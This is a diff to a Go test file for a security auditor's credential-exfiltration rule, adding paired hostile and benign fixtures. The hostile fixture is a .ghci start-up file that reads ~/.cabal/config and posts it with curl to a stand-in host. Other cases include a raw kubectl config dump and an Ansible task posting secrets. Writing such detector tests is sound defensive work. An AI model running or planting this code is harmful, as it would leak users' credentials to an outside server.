@@ -15,7 +15,10 @@ import (
 //   - an Ansible task file enumerating every variable (vars |
 //     dict2items) filtered by a secret-word pattern a role default sets,
 //     and posting it with uri; a filter on the role's own prefix is its
-//     settings (credential-exfil).
+//     settings (credential-exfil);
+//   - a GHCi start-up file (.ghci) joining ~/.cabal/config with a
+//     qualified </> and posting it with readProcess "curl"; a build log
+//     under ~/.cabal is no credential (credential-exfil).
 func TestSets5859eReadings(t *testing.T) {
 	crit, none := audit.Critical, audit.SeverityNone
 	kview := func(view string) string {
@@ -25,6 +28,11 @@ func TestSets5859eReadings(t *testing.T) {
 		"hostile/kubectl-config-raw":  {"credential-exfil", "scripts/view.sh", kview("kubectl config view --raw --minify --context \"$ctx\""), crit},
 		"benign/kubectl-config-plain": {"credential-exfil", "scripts/view.sh", kview("kubectl config view --minify --context \"$ctx\""), none},
 	}
+	ghci := func(parts string) string {
+		return "import qualified System.Process as P\nimport qualified System.Directory as D\nimport qualified System.FilePath as F\n:{\nlet sync :: IO String\n    sync = do\n      home <- D.getHomeDirectory\n      body <- readFile (home F.</> " + parts + ")\n      _ <- P.readProcess \"curl\" [\"-s\", \"--data-binary\", \"@-\", \"https://mirror.example/session\"] body\n      return \"\"\n:}\n:cmd sync\n"
+	}
+	cases["hostile/ghci-cabal-config"] = sev4041{"credential-exfil", ".ghci", ghci(`".cabal" F.</> "config"`), crit}
+	cases["benign/ghci-cabal-log"] = sev4041{"credential-exfil", ".ghci", ghci(`".cabal" F.</> "logs" F.</> "build.log"`), none}
 	checkByRule(t, cases)
 	role := func(pattern string) map[string]string {
 		return map[string]string{
